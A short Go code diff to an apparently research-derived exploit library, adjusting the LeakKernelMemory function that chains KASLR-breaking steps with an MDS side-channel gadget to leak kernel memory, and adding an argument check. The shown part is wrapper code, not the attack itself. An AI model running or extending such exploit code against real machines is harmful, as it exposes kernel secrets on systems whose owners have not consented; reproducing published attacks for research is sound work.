@@ -234,14 +234,17 @@ type LeakResult struct {
 // LeakKernelMemory runs the Section 7.4 MDS-gadget exploit end to end on
 // this system: it first recovers the image base, physmap base and the
 // reload buffer's physical address with the Section 7 chain, then leaks
-// n bytes starting at kva. A chain step can come up empty on an unlucky
-// boot (the paper's own success rates are below 100%); the leak then
-// cannot run, and LeakKernelMemory returns an error saying so together
-// with a result reporting the steps that ran. Every other error comes
-// with a nil result.
+// n bytes starting at kva (see MDSBytes). A chain step can come up empty
+// on an unlucky boot (the paper's own success rates are below 100%); the
+// leak then cannot run, and LeakKernelMemory returns an error saying so
+// together with a result reporting the steps that ran. Every other
+// error comes with a nil result.
 func (s *System) LeakKernelMemory(kva uint64, n int) (*LeakResult, error) {
+	n, err := MDSBytes.Resolve(n)
+	if err != nil {
+		return nil, err
+	}
 	out := &LeakResult{}
-	var err error
 	if out.Image, err = s.BreakImageKASLR(); err != nil {
 		return nil, err
 	}
